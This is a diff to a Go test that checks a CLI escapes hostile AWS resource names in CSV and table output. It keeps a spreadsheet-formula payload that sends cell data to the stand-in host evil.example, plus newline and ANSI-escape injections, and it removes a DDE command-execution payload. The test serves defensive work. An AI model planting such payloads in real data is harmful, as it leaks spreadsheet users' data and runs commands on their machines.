@@ -56,7 +56,9 @@ func TestUsageRowsUnknown(t *testing.T) {
 }
 
 // TestUsageOutputHostileNames: names from AWS cannot become spreadsheet
-// formulas in the CSV, nor split a row of the table.
+// formulas in the CSV, nor split a row of the table. The CLI prints through
+// usage.Report.WriteCSV and WriteTable, whose tests try every formula
+// prefix and control character; this checks the CLI goes through them.
 func TestUsageOutputHostileNames(t *testing.T) {
 	t.Parallel()
 	tests := []struct {
@@ -65,14 +67,8 @@ func TestUsageOutputHostileNames(t *testing.T) {
 		tableCol string // the RESOURCE column of the table
 	}{
 		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, `subnet-4 (=HYPERLINK("http://evil.example/?"&A1,"x"))`},
-		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "subnet-4 (+cmd|' /C calc'!A0)"},
-		{"-2+3", "'-2+3", "subnet-4 (-2+3)"},
-		{"@SUM(A1)", "'@SUM(A1)", "subnet-4 (@SUM(A1))"},
-		{"\t=1", "'\t=1", `subnet-4 (\t=1)`},
-		{"\r=1", "'\r=1", `subnet-4 (\r=1)`},
 		{"web\nFAKE,ROW", "web\nFAKE,ROW", `subnet-4 (web\nFAKE,ROW)`},
 		{"red\x1b[31m", "red\x1b[31m", `subnet-4 (red\x1b[31m)`},
-		{"a=b", "a=b", "subnet-4 (a=b)"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.csvCell, func(t *testing.T) {
